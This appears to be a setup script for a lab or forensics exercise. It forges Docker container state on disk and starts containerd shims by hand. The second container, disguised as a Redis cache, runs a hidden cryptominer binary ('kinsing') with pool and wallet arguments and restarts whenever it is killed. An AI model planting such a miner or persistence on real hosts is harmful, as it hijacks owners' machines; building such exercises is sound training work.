
# Docker's state as it lies on disk, and two shims as they run; no engine, no network. Whoever ends the payload alone sees it again in a moment.
d=/var/lib/docker
install -m 755 "$KIT/shim" /usr/local/bin/containerd-shim-runc-v2
# container ID LAYER NAME IMAGE PROGRAM [ARGV…]
container() {
  id=$1 layer=$2 name=$3 image=$4
  shift 4
  mkdir -p $d/overlay2/$layer/diff $d/overlay2/$layer/work $d/overlay2/$layer/merged $d/overlay2/l $d/image/overlay2/layerdb/mounts/$id $d/containers/$id /run/containerd/bundle/$id
  printf %s $layer >$d/image/overlay2/layerdb/mounts/$id/mount-id
  put $d/containers/$id/config.v2.json <<JSON
{"ID":"$id","Created":"2026-05-01T10:00:00Z","Path":"$1","Args":[],"State":{"Running":true,"Paused":false},"Config":{"Hostname":"$name","Image":"$image","Cmd":["$1"]},"Image":"sha256:00","Name":"/$name","Driver":"overlay2","MountPoints":{}}
JSON
  put $d/containers/$id/hostconfig.json <<'JSON'
{"Binds":null,"NetworkMode":"host","RestartPolicy":{"Name":"always","MaximumRetryCount":0},"Privileged":false}
JSON
  mimic $d/overlay2/$layer/diff$1
  mount --bind $d/overlay2/$layer/diff $d/overlay2/$layer/merged
  ln -s $d/overlay2/$layer/merged /run/containerd/bundle/$id/rootfs
  for a; do echo "$a"; done >/run/containerd/bundle/$id/args
  for h in systemd unified; do [ ! -d /sys/fs/cgroup/$h ] || mkdir -p /sys/fs/cgroup/$h/docker/$id; done
  [ ! -e /sys/fs/cgroup/cgroup.procs ] || mkdir -p /sys/fs/cgroup/docker/$id
  detach /usr/local/bin/containerd-shim-runc-v2 -namespace moby -id $id -bundle /run/containerd/bundle/$id -address /run/containerd/containerd.sock
}
container b05e44aa90c1142429f0d5f3d0a5b7c119e2d7a64cbd8a1f0e3c2b1a09f8e7d6 19ac catalogue shop/catalogue:3 /usr/bin/catalogue --listen 0.0.0.0:8090
container 9d13c0ffee1142429f0d5f3d0a5b7c119e2d7a64cbd8a1f0e3c2b1a09f8e7d6c 77d1 cache redis:6 /usr/sbin/.ns/kinsing -o "$POOL" -u "$WALLET" -p shim
